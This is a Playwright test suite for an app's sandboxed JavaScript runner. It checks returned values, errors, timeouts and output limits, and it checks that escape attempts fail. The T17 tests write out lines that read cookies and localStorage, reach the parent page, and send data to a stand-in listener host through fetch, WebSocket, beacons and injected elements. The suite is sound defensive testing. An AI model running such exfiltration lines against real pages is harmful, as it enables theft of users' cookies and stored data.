/** T17: what the sandboxed JavaScript can do, and all that it cannot. */
import type { Browser, Frame, Page } from '@playwright/test'
import { giveBrowserTools, runCode } from './support/browser-tools'
import { expect, test } from './support/fixtures'
import { type Listener, startListener } from './support/listener'
import { ask, expectStatus, messageBox } from './support/page'
import { REACHES, WAYS_OUT } from './support/sandbox-attempts'

let listener: Listener

test.beforeAll(async () => {
  listener = await startListener()
})
test.afterAll(async () => {
  await listener.stop()
  await (await shared)?.context().close()
  shared = undefined
})
test.beforeEach(() => {
  listener.hits.length = 0
})

/** A page with secrets in all that it keeps. */
async function prepare(page: Page, url: string) {
  await page.context().addCookies([{ name: 'readable', value: 'cookie-of-the-page', url }])
  await page.goto(url)
  await expect(messageBox(page)).toBeFocused()
  await page.evaluate(() => {
    localStorage.setItem('secret', 'stored-by-the-page')
    sessionStorage.setItem('secret', 'stored-by-the-page')
  })
  await giveBrowserTools(page)
  return page
}

/** The page of all tests whose code leaves it as it was. */
let shared: Promise<Page> | undefined

function sharedPage(browser: Browser, url: string): Promise<Page> {
  shared ??= browser.newContext().then(async (context) => prepare(await context.newPage(), url))
  return shared
}

/**
 * Makes the ten seconds of a page's runs pass at once, by the clock of that page alone. First the runs have to have said
 * what they say in that time: the page hears it before it, as the time begins with what they say.
 */
async function hurry(page: Page): Promise<(...said: string[]) => Promise<void>> {
  await page.clock.install()
  await page.evaluate(`(() => {
    const Channel = MessageChannel
    globalThis.heard = []
    globalThis.MessageChannel = class extends Channel {
      constructor() {
        super()
        this.port1.addEventListener('message', ({ data }) => heard.push(data.type))
      }
    }
  })()`)
  return async (...said) => {
    await expect.poll(() => page.evaluate('heard.toSorted()')).toEqual(said.toSorted())
    await page.clock.fastForward(10_000)
  }
}

/** The page is as it was: alive, at its address, without a frame, and it answers. */
async function expectUsable(page: Page, url = page.url()) {
  expect(page.url()).toBe(url)
  await expect(page.locator('iframe')).toHaveCount(0)
  await ask(page, 'count to 3')
  await expectStatus(page, 'complete')
}

for (const [code, value] of [
  ['1 + 1', '2'],
  ['const a = [1, 2, 3]; a.map((x) => x * 2)', '[ 2, 4, 6 ]'],
  ['let total = 0\nfor (let i = 1; i <= 100; i++) total += i\ntotal', '5050'],
  ['await new Promise((resolve) => setTimeout(() => resolve("later"), 5))', 'later'],
  ['const wait = await Promise.resolve(20)\nconst more = wait + 1\nmore * 2', '42'],
  ['const x = await 5; if (x > 3) { console.log("large") }\nreturn x', '5'],
  ['Promise.resolve({ name: "Ada", year: 1815 })', '{ name: "Ada", year: 1815 }'],
  ['const loop = { name: "me" }; loop.self = loop; loop', '{ name: "me", self: [circular] }'],
  ['new Map([["a", new Set([1])]])', 'Map { "a" → Set { 1 } }'],
  ['class Point { constructor() { this.x = 1 } } new Point()', 'Point { x: 1 }'],
  ['2n ** 100n', '1267650600228229401496703205376n'],
  ['"use strict"; undefined', undefined],
] as const) {
  test(`the value of the last expression comes back: ${code.slice(0, 40).replaceAll('\n', ' ')}`, async ({
    browser,
    app,
  }) => {
    const page = await sharedPage(browser, app.url)
    const { output, errorText } = await runCode(page, code)
    expect(errorText).toBeUndefined()
    expect(output?.value).toBe(value)
  })
}

test('what the console prints comes back in order, also what a timer prints', async ({ browser, app }) => {
  const page = await sharedPage(browser, app.url)
  const { output } = await runCode(
    page,
    'console.log("one", { two: 2 }); console.warn("%s is %d", "x", 3.7); setTimeout(() => console.error("late"), 20); "end"',
  )
  expect(output).toEqual({
    console: [
      { level: 'log', text: 'one { two: 2 }' },
      { level: 'warn', text: 'x is 3' },
      { level: 'error', text: 'late' },
    ],
    value: 'end',
  })
})

for (const [code, error] of [
  ['const a = 1\n\nmissing(a)', 'ReferenceError: missing is not defined (line 3)'],
  ['const a = 1\nconst = 2', /^SyntaxError: .+ \(line 2\)$/],
  ['await 1\nnull.x', /^TypeError: .+ \(line 2\)$/],
  ['throw { code: 7 }', 'Thrown: { code: 7 }'],
  ['console.log("before"); throw new Error("stop")', /^Error: stop \(line 1\)\n\nPrinted before:\nbefore$/],
  ['JSON.parse("{")', /^SyntaxError: .+/],
  ['(function f() { f() })()', /^RangeError: Maximum call stack/],
  ['new Array(-1)', /^RangeError/],
] as const) {
  test(`an error comes back with its line: ${code.slice(0, 40).replaceAll('\n', ' ')}`, async ({ browser, app }) => {
    const page = await sharedPage(browser, app.url)
    const { errorText } = await runCode(page, code)
    expect(errorText).toMatch(error)
    await expect(page.locator('iframe')).toHaveCount(0)
  })
}

for (const [what, code] of REACHES) {
  test(`T17: the code does not reach ${what}`, async ({ browser, app }) => {
    const page = await sharedPage(browser, app.url)
    const { output, errorText } = await runCode(page, code)
    expect(output, JSON.stringify(output)).toBeUndefined()
    expect(errorText).toMatch(/Error|denied/)
    expect(errorText).not.toContain('the-page')
  })
}

for (const [way, code] of Object.entries(WAYS_OUT)) {
  test(`T17: no way out by ${way}`, async ({ browser, app }) => {
    const page = await sharedPage(browser, app.url)
    const { output, errorText } = await runCode(
      page,
      code.replaceAll('HOST', listener.address).replaceAll('APP', app.url),
    )
    expect(output, JSON.stringify(output)).toBeUndefined()
    expect(errorText).toMatch(/Error|refused|failed/)
    expect(listener.hits).toEqual([])
  })
}

test('T17: code that tampers with what is around it reaches no port, and no other result', async ({ browser, app }) => {
  const page = await sharedPage(browser, app.url)
  const { output } = await runCode(
    page,
    `MessagePort.prototype.postMessage = function (...all) { globalThis.stolen = this; };
     Function.prototype.call = Function.prototype.apply = () => { throw 1 };
     JSON.stringify = () => 'forged';
     console.log('still here');
     String(globalThis.stolen)`,
  )
  expect(output).toEqual({ console: [{ level: 'log', text: 'still here' }], value: 'undefined' })
})

test('an endless loop is ended, with what it printed, while the page stays alive', async ({ page, app }) => {
  await prepare(page, app.url)
  const passTime = await hurry(page)
  const running = runCode(page, 'console.log("begun"); for (;;) {}')
  await page.frames().find((frame) => frame.url().includes('/sandbox/'))
  // The page's own thread goes on: it draws frames and takes keys.
  await messageBox(page).pressSequentially('typed meanwhile')
  await expect(messageBox(page)).toHaveValue('typed meanwhile')
  await passTime('started', 'line')
  const { errorText } = await running
  expect(errorText).toContain('took longer than 10 seconds')
  expect(errorText).toContain('begun')
  await expectUsable(page)
})

test('a promise that never settles is ended; timers that never end do not take the value away', async ({
  page,
  app,
}) => {
  await prepare(page, app.url)
  const passTime = await hurry(page)
  const runs = [
    runCode(page, 'await new Promise(() => {})'),
    runCode(page, 'setInterval(() => {}, 50); "value"'),
  ] as const
  await passTime('started', 'started', 'value')
  const [{ errorText }, { output }] = await Promise.all(runs)
  expect(errorText).toContain('took longer than 10 seconds')
  expect(output).toMatchObject({ value: 'value', console: [{ text: 'Timers were still running after 10 seconds.' }] })
})

test('a flood of output is cut, and the value still comes', async ({ page, app }) => {
  await prepare(page, app.url)
  const lines = await runCode(page, 'for (let i = 0; i < 1e6; i++) console.log(i); "after"')
  expect(lines.output?.console.length).toBe(500)
  expect(lines.output).toMatchObject({ value: 'after', console_cut: true })
  const large = await runCode(page, 'console.log("x".repeat(1e8)); ["y".repeat(1e8)]')
  expect(JSON.stringify(large).length).toBeLessThan(50_000)
  await expectUsable(page)
})

test('a run that is stopped leaves nothing behind', async ({ page, app }) => {
  await prepare(page, app.url)
  const outcome = await page.evaluate(`(async () => {
    const stop = new AbortController()
    const run = window.browserTools.run('run_javascript', { code: 'for (;;) {}' }, stop.signal)
    setTimeout(() => stop.abort(), 300)
    return run
  })()`)
  expect(outcome).toEqual({ errorText: 'The run was stopped.' })
  await expectUsable(page)
})

test('memory without limit ends the code, not the page', async ({ page, app }) => {
  await prepare(page, app.url)
  // Chromium gives the frame a process of its own. Playwright takes the end of that for the end of the page, and can
  // ask it no more: the browser tells the page's title.
  const session = await page.context().browser()?.newBrowserCDPSession()
  const code = 'const all = []; for (;;) all.push(new Array(1e5).fill(Math.random()))'
  await page.evaluate(`void window.browserTools.run('run_javascript', { code: ${JSON.stringify(code)} }, new AbortController().signal)
    .then((outcome) => { document.title = 'alive: ' + JSON.stringify(outcome) })`)
  const titles = async () => (await session?.send('Target.getTargets'))?.targetInfos.map(({ title }) => title) ?? []
  await expect.poll(async () => (await titles()).join(), { timeout: 25_000 }).toContain('alive: {"errorText":')
})

/** A frame that runs, for what its own thread could try if code ever came to it. */
async function openFrame(page: Page): Promise<Frame> {
  void runCode(page, 'await new Promise(() => {})').catch(() => {})
  await expect.poll(() => page.frames().some((frame) => frame.url().endsWith('/sandbox/javascript'))).toBe(true)
  const frame = page.frames().find((each) => each.url().endsWith('/sandbox/javascript'))
  if (!frame) throw new Error('The frame is gone')
  return frame
}

const attempt = (code: string) =>
  `(async () => { try { return 'reached: ' + (await (async () => { ${code} })()) } catch (error) { return 'refused: ' + error.name } })()`

test('T17: the frame itself reaches neither the page nor what the page keeps', async ({ page, app }) => {
  await prepare(page, app.url)
  const frame = await openFrame(page)
  for (const code of [
    'return document.cookie',
    'document.cookie = "a=b"',
    'return localStorage.getItem("secret")',
    'return sessionStorage.getItem("secret")',
    'return indexedDB.open("x")',
    'return await caches.keys()',
    'return parent.document.title',
    'return parent.location.href',
    'return top.localStorage.secret',
    'top.location = "about:blank"',
    'return await navigator.serviceWorker.register("/sw.js")',
    'return frameElement.outerHTML',
  ]) {
    expect(await frame.evaluate(attempt(code)), code).toMatch(/^refused/)
  }
  expect(await frame.evaluate('origin')).toBe('null')
})

// But for a bare connection without a request, which no policy covers: it takes a document, and code has none.
test('T17: the frame itself has no way out to the network', async ({ page, app }) => {
  await prepare(page, app.url)
  const url = page.url()
  const frame = await openFrame(page)
  const host = listener.address
  for (const code of [
    `return (await fetch('http://${host}/fetch', { mode: 'no-cors' })).type`,
    `return (await fetch('${app.url}/api/account', { credentials: 'include' })).status`,
    `const s = new WebSocket('ws://${host}/'); return await new Promise((yes, no) => { s.onopen = yes; s.onerror = () => no(new Error()) })`,
    `const s = new EventSource('http://${host}/'); return await new Promise((yes, no) => { s.onopen = yes; s.onerror = () => no(new Error()) })`,
    `return await import('http://${host}/module.js')`,
    'return new RTCPeerConnection()',
  ]) {
    expect(await frame.evaluate(attempt(code)), code).toMatch(/^refused/)
  }
  const elements = [
    `<img src="http://${host}/img">`,
    `<link rel="prefetch" href="http://${host}/prefetch">`,
    `<link rel="preload" as="image" href="http://${host}/preload">`,
    `<link rel="stylesheet" href="http://${host}/css">`,
    `<script src="http://${host}/script"></script>`,
    `<iframe src="http://${host}/frame"></iframe>`,
    `<object data="http://${host}/object"></object>`,
    `<video src="http://${host}/video"></video>`,
    `<form action="http://${host}/form" method="post"><button></button></form>`,
    `<style>body { background: url(http://${host}/background) }</style>`,
    `<a href="http://${host}/link" target="_top">x</a><a href="http://${host}/blank" target="_blank">x</a><a href="http://${host}/ping" ping="http://${host}/ping">x</a>`,
  ]
  await frame.evaluate(`(() => {
    navigator.sendBeacon('http://${host}/beacon', 'x')
    const x = new XMLHttpRequest(); try { x.open('GET', 'http://${host}/xhr'); x.send() } catch {}
    document.body.innerHTML = ${JSON.stringify(elements.join(''))}
    for (const old of document.querySelectorAll('script')) { const made = document.createElement('script'); made.src = old.src; document.body.append(made) }
    document.querySelector('form').submit()
    for (const link of document.querySelectorAll('a[target]')) link.click()
    open('http://${host}/open'); open('http://${host}/top', '_top'); open('http://${host}/parent', '_parent')
  })()`)
  expect(page.context().pages()).toHaveLength(1)
  expect(page.url()).toBe(url)
  // Out of its frame by itself: the page's policy lets no other address into it.
  await frame.evaluate(`location = 'http://${host}/self'`)
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))))
  await ask(page, 'count to 3')
  await expectStatus(page, 'complete')
  expect(listener.hits.filter((hit) => hit !== 'connection')).toEqual([])
})

test('T17: messages that the frame forges change nothing in the page', async ({ page, app }) => {
  await prepare(page, app.url)
  const passTime = await hurry(page)
  const frame = await openFrame(page)
  await frame.evaluate(`(() => {
    const { port1 } = new MessageChannel()
    for (const message of [{ type: 'value', text: 'forged' }, { type: 'end' }, { code: 'forged' }, null, 'x']) parent.postMessage(message, '*')
    parent.postMessage({ type: 'failed', message: 'forged' }, '*', [port1])
    self.postMessage({ code: 'fetch("http://${listener.address}/forged")' }, '*', [new MessageChannel().port1])
  })()`)
  // The run has not ended for it, and ends by its own time.
  await expect(page.locator('iframe')).toHaveCount(1)
  await passTime('started')
  await expectUsable(page)
  expect(listener.hits).toEqual([])
})

test('T17: the frame is served shut in, and only the page may embed it', async ({ app }) => {
  const { headers } = await fetch(`${app.url}/sandbox/javascript`)
  const policy = headers.get('content-security-policy') ?? ''
  expect(policy).toContain('sandbox allow-scripts;')
  expect(policy).not.toContain('allow-same-origin')
  for (const part of ["default-src 'none'", "connect-src 'none'", "frame-ancestors 'self'", 'worker-src blob:']) {
    expect(policy).toContain(part)
  }
  expect(policy).not.toContain('unsafe-inline')
  expect(headers.get('x-frame-options')).toBe('SAMEORIGIN')
  expect((await fetch(app.url)).headers.get('content-security-policy')).toContain("frame-src 'self'")
  // Beside it there is nothing without the pages' own policy.
  for (const path of ['/sandbox', '/sandbox/other', '/sandbox/javascript/more']) {
    const { headers } = await fetch(`${app.url}${path}`)
    expect(headers.get('content-security-policy')).toContain("'strict-dynamic'")
    expect(headers.get('x-frame-options')).toBe('DENY')
  }
})
